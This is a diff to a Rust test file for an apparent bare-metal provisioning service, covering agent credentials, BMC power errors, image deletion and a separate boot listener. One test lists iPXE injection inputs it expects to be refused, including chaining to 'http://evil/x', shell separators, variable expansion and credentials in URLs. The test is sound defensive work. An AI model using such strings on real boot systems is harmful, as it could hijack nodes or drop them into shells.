@@ -295,12 +295,13 @@ fn the_agent_api_authenticates_agents_and_scopes_their_steps() {
 /// node moved on; the used token is worth nothing to anyone else.
 #[test]
 fn a_registration_retried_after_a_lost_answer_is_answered_again_and_only_for_its_agent() {
-    let Some(emu) = peers::Emulator::start(1) else { return };
+    let Some(emu) = peers::Emulator::start(2) else { return };
     for b in TestBackend::ALL {
         let Some(s) = server(b, 120) else { continue };
         let b = b.as_str();
-        let tenant = setup(&s, &emu, 1);
+        let tenant = setup(&s, &emu, 2);
         create(&tenant, "job");
+        create(&tenant, "other");
         let token = token_of(&wait_boot(&s, 1, TENANT_KERNEL));
         // A proposed credential must look like one, and refusing it uses
         // nothing up.
@@ -311,6 +312,12 @@ fn a_registration_retried_after_a_lost_answer_is_answered_again_and_only_for_its
         let mine = "ab".repeat(32);
         let first = register_as(&s, &token, Some(&mine)).expect(201).body;
         assert_eq!(first["credential"], mine.as_str(), "[{b}] {first}");
+        // Another node's agent proposing the same credential (an image
+        // with a fixed one): refused, naming it, its token not used up.
+        let other = token_of(&wait_boot(&s, 2, TENANT_KERNEL));
+        let r = register_as(&s, &other, Some(&mine)).expect(400);
+        assert_eq!(r.error().1.as_deref(), Some("credential"), "[{b}] {}", r.text);
+        register_as(&s, &other, Some(&"ef".repeat(32))).expect(201);
         // The answer was lost: the same agent asks again.
         let again = register_as(&s, &token, Some(&mine)).expect(201).body;
         assert_eq!(again["agent_id"], first["agent_id"], "[{b}] {again}");
@@ -460,7 +467,7 @@ fn power_actions_on_a_ready_instance_are_done_over_the_bmc() {
         assert_eq!(sent, ["ForceRestart"], "[{b}] sent once");
         assert_eq!(last["ok"], false, "[{b}] {last}");
         assert!(
-            last["detail"].as_str().unwrap().starts_with("ForceRestart: BMC answered 503"),
+            last["detail"].as_str().unwrap().starts_with("ForceRestart: BMC answered 500"),
             "[{b}] {last}"
         );
         assert!(f.sim.power_on(i), "[{b}] on again (the BMC did restart it)");
@@ -600,6 +607,9 @@ fn a_rebuild_provisions_the_node_again_for_its_tenant() {
         let r = h.tenant.post(&format!("{INSTANCES}/{id}/power"), &json!({"action": "on"}));
         assert_eq!(r.status, 409, "[{b}] {}", r.text);
         assert!(r.text.contains("is to be rebuilt"), "[{b}] {}", r.text);
+        // The image a rebuild waits to boot cannot go meanwhile.
+        let r = s.admin().delete("/v1/images/rocky").expect(409);
+        assert!(r.text.contains("instances use this image"), "[{b}] {}", r.text);
 
         drive(&h.ctl, &h.secrets, &s, "bm-1", "provisioning");
         let inst = instance(&h.tenant, &id);
@@ -629,5 +639,104 @@ fn a_rebuild_provisions_the_node_again_for_its_tenant() {
         let r = h.tenant.post(&rebuild, &json!({}));
         assert_eq!(r.status, 409, "[{b}] {}", r.text);
         assert!(r.text.contains("rebuilds are for ready instances"), "[{b}] {}", r.text);
+    }
+}
+
+/// An image's URLs and kernel arguments go into the iPXE script the boot
+/// service writes: nothing iPXE reads as more than a word (a command
+/// separator would run what follows, a `#` word would drop the node's
+/// token and metadata source, `${` is expanded), and no credentials in a
+/// URL (every tenant reads the catalog). Refused, naming the field,
+/// nothing written; the script of an accepted image keeps its token.
+#[test]
+fn image_urls_and_kernel_arguments_cannot_change_the_boot_script() {
+    for b in TestBackend::ALL {
+        let Some(s) = server_without_controller(b) else { continue };
+        let b = b.as_str();
+        let a = s.admin();
+        let image = |over: Value| {
+            let mut v = json!({"name": "img", "kernel_url": "http://img.local/vmlinuz",
+                               "initrd_url": "http://img.local/initrd", "cmdline": "console=ttyS0"});
+            for (k, x) in over.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            v
+        };
+        for (over, field) in [
+            (json!({"cmdline": "console=ttyS0 #"}), "cmdline"),
+            (json!({"cmdline": "quiet #rest"}), "cmdline"),
+            (json!({"cmdline": "quiet && chain http://evil/x"}), "cmdline"),
+            (json!({"cmdline": "quiet || shell"}), "cmdline"),
+            (json!({"cmdline": "quiet ; shell"}), "cmdline"),
+            (json!({"cmdline": "root=${root-path}"}), "cmdline"),
+            (json!({"kernel_url": "http://img.local/${net0/mac}/vmlinuz"}), "kernel_url"),
+            (json!({"kernel_url": "https://u:secret@artifacts/vmlinuz"}), "kernel_url"),
+            (json!({"initrd_url": "https://token@artifacts/initrd"}), "initrd_url"),
+            (json!({"root_url": "https://u:p@artifacts/root.img"}), "root_url"),
+        ] {
+            let e = a.post("/v1/images", &image(over.clone())).expect(422);
+            assert_eq!(e.error().1.as_deref(), Some(field), "[{b}] {over}: {}", e.text);
+            assert!(!e.text.contains("secret"), "[{b}] {}", e.text);
+        }
+        let listed = a.get("/v1/images").expect(200).body;
+        assert_eq!(listed["items"].as_array().map(Vec::len), Some(0), "[{b}] {listed}");
+        // A `#` inside a word, and an `@` in a URL's path, are plain text.
+        a.post(
+            "/v1/images",
+            &image(json!({"cmdline": "console=ttyS0 x=a#b", "kernel_url": "http://img.local/v@1/vmlinuz"})),
+        )
+        .expect(201);
+    }
+}
+
+/// `boot_listen`: the boot service (whose iPXE scripts carry each node's
+/// one-time token) on a listener of its own, on the provisioning network;
+/// the API's listener, which tenants' nodes reach for their agents, does
+/// not serve it. The agent API is on both. Bodies of the agent API are
+/// bounded like the API's, with the API's JSON error.
+#[test]
+fn the_boot_service_can_listen_apart_from_the_api() {
+    for b in TestBackend::ALL {
+        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+        let Some(s) = common::TestServer::start_with(b, |c| {
+            c.boot_listen = Some(format!("127.0.0.1:{port}"));
+            c.max_body_bytes = 64 * 1024;
+        }) else {
+            continue;
+        };
+        let b = b.as_str();
+        let api = s.anonymous();
+        let boot = common::Client { base: format!("http://127.0.0.1:{port}"), token: None };
+        let mac = "/boot/ipxe?mac=52:54:00:00:00:01";
+        // The API's listener: no such route.
+        let r = api.get(mac).expect(404);
+        assert_eq!(r.body["error"]["code"], "not_found", "[{b}] {}", r.text);
+        // The boot service's: the script (an unknown MAC), a bad request
+        // naming the field; and nothing of the API.
+        let r = boot.get(mac).expect(404);
+        assert!(r.text.starts_with("#!ipxe"), "[{b}] {}", r.text);
+        let r = boot.get("/boot/ipxe").expect(400);
+        assert_eq!(r.error().1.as_deref(), Some("mac"), "[{b}] {}", r.text);
+        boot.get("/v1/tenants").expect(404);
+        s.admin().get("/v1/tenants").expect(200);
+        // The agent API on both.
+        for c in [&api, &boot] {
+            let r = c.post("/agent/v1/heartbeat", &json!({}));
+            assert_eq!(r.error().1.as_deref(), Some("health"), "[{b}] served: {}", r.text);
+            // A body over the limit, refused by its length before it is read.
+            use std::io::{Read, Write};
+            let mut conn =
+                std::net::TcpStream::connect(c.base.trim_start_matches("http://")).unwrap();
+            let req = format!(
+                "POST /agent/v1/register HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
+                 Content-Length: {}\r\nConnection: close\r\n\r\n",
+                64 * 1024 + 1
+            );
+            conn.write_all(req.as_bytes()).unwrap();
+            let mut answer = String::new();
+            let _ = conn.read_to_string(&mut answer);
+            assert!(answer.starts_with("HTTP/1.1 413"), "[{b}] {answer}");
+            assert!(answer.contains("\"payload_too_large\""), "[{b}] {answer}");
+        }
     }
 }
